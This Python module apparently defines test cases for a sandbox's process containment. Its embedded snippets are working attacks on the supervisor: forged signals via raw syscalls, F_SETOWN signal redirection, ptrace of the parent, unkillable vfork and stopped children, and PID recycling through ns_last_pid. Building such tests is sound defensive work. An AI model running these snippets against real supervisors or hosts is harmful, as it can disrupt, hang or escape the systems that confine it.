"""Programs that act on processes by calls of odd kinds, or are processes of an odd kind."""

# ruff: noqa: E501 - the programs are text

from __future__ import annotations

from attacks.model import QUICK, Attack, timed_out, unwaited

GROUP = "processes"

ATTACKS = (
    Attack(
        "memory calls on others",
        GROUP,
        "reaps, migrates and inspects its parent and everybody through calls for memory managers",
        """
def attack():
    if ARM:
        return
    own = ctypes.create_string_buffer(64)
    for pid in pids():
        for what, number, arguments in (("robust list", 274, (pid, own, own)), ("migrate", 256, (pid, 64, b"\\1" + bytes(7), b"\\1" + bytes(7))),
                                        ("io priority", 251, (1, pid, 0x6000)), ("compare", 312, (pid, os.getpid(), 1, 0, 0))):
            ctypes.set_errno(0)
            if pid in (O["pid"], O["victim"]) or not outsider_in_reach():
                fixed = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
                if LIBC.syscall(ctypes.c_long(number), *fixed) >= 0 and pid in (O["pid"], O["victim"]):
                    out(f"{what} {pid}")
""",
    ),
    Attack(
        "signals with a forged sender",
        GROUP,
        "queues signals to the supervisor by rt_sigqueueinfo, tgkill and timers",
        """
def attack():
    if ARM:
        return
    info = struct.pack("=iii", 10, 0, -1) + struct.pack("=ii", 1, 0) + bytes(112)
    for pid in (O["pid"], O["victim"]):
        for what, number, arguments in (("queue", 129, (pid, 23, info)), ("thread queue", 297, (pid, pid, 23, info)), ("tgkill", 234, (pid, pid, 23))):
            def call():
                ctypes.set_errno(0)
                if LIBC.syscall(ctypes.c_long(number), *(ctypes.c_long(one) if isinstance(one, int) else one for one in arguments)):
                    raise OSError(ctypes.get_errno(), what)
            tried(what, call)
        event = struct.pack("=Qiii", 0, 23, 4, pid) + bytes(44)
        tried("timer", lambda: LIBC.syscall(222, 1, event, ctypes.create_string_buffer(8)) == 0)
""",
    ),
    Attack(
        "signals by descriptors",
        GROUP,
        "makes everybody the owner of its pipes, sockets, leases and folders, so that events signal them",
        """
import fcntl
def attack():
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    one, other = socket.socketpair()
    for pid in (os.getppid(), 1, O["pid"], O["victim"], -os.getpgid(0), -O["group"]):
        for what, call in (("F_SETOWN", lambda: fcntl.fcntl(one, 8, pid)), ("F_SETOWN_EX", lambda: fcntl.fcntl(one, 15, struct.pack("=ii", 1, pid))),
                           ("FIOSETOWN", lambda: fcntl.ioctl(one, 0x8901, struct.pack("=i", pid))), ("F_SETSIG", lambda: fcntl.fcntl(one, 10, 9)),
                           ("SIOCSPGRP", lambda: fcntl.ioctl(one, 0x8902, struct.pack("=i", pid)))):
            try:
                call()
                print("held: taken", what)
                fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                other.send(b"x")
            except OSError as error:
                print("held:", what, error)
    try:
        fcntl.fcntl(os.open(".", os.O_RDONLY), 1026, 0x8000003F)
        open("event", "w").close()
    except OSError as error:
        print("held:", error)
""",
    ),
    Attack(
        "start that never ends",
        GROUP,
        "starts a child by vfork that never ends and never starts another program, so that the parent cannot be interrupted",
        """
def attack():
    if LIBC.vfork() == 0:
        LIBC.pause()
""",
        escaped=timed_out,
        limits={"cpu_s": 0.5, "wall_s": 0.8},
    ),
    Attack(
        "main thread gone",
        GROUP,
        "ends its main thread while another goes on, so that the process looks like a zombie",
        """
def attack():
    threading.Thread(target=time.sleep, args=(60,)).start()
    LIBC.syscall(ctypes.c_long(93 if ARM else 60), ctypes.c_long(0))
""",
        escaped=timed_out,
        limits={"cpu_s": 0.5, "wall_s": 0.8},
    ),
    Attack(
        "child without a signal of its end",
        GROUP,
        "clones children that share descriptors and folders and whose end is told to nobody",
        """
def attack():
    if ARM:
        return
    for flags in (0, 0x400, 0x200 | 0x400, 0x00800000, 0x8000 | 17, 64):
        pid = LIBC.syscall(ctypes.c_long(56), ctypes.c_long(flags), 0, 0, 0, 0)
        if pid == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)
        print("held: child", pid)
""",
        limits=QUICK,
    ),
    Attack(
        "stopped child holds the output",
        GROUP,
        "leaves stopped children that hold every descriptor, with every signal blocked",
        """
def attack():
    for _ in range(4):
        child = os.fork()
        if child == 0:
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
            os.setpgid(0, 0)
            os.kill(os.getpid(), signal.SIGSTOP)
            time.sleep(60)
        os.waitpid(child, os.WUNTRACED)
""",
        escaped=unwaited,
    ),
    Attack(
        "traced by its own child",
        GROUP,
        "lets a child trace it, or traces a child and leaves it stopped, so that it cannot end",
        """
def attack():
    child = os.fork()
    if child == 0:
        LIBC.prctl(1, 0)
        traced = LIBC.ptrace(16, os.getppid(), 0, 0) == 0
        print("held: traced", traced, flush=True)
        time.sleep(60 if traced else 0)
        os._exit(0)
    other = os.fork()
    if other == 0:
        LIBC.ptrace(0, 0, 0, 0)
        os.kill(os.getpid(), signal.SIGSTOP if LIBC.ptrace(0, 0, 0, 0) < 0 else signal.SIGTRAP)
        os._exit(0)
    os.waitpid(other, os.WUNTRACED)
""",
        limits=QUICK,
    ),
    Attack(
        "numbers of processes run round",
        GROUP,
        "starts and ends children until the number of a process that ended is given again, then signals it",
        """
def attack():
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    first = os.getpid()
    for _ in range(60):
        child = os.fork()
        if child == 0:
            os._exit(0)
        if child < first:
            print("held: round")
            break
    tried("last number", lambda: open("/proc/sys/kernel/ns_last_pid", "w", 1).write(str(os.getppid() - 1)))
""",
        limits={"cpu_s": 1, "wall_s": 3},
    ),
)
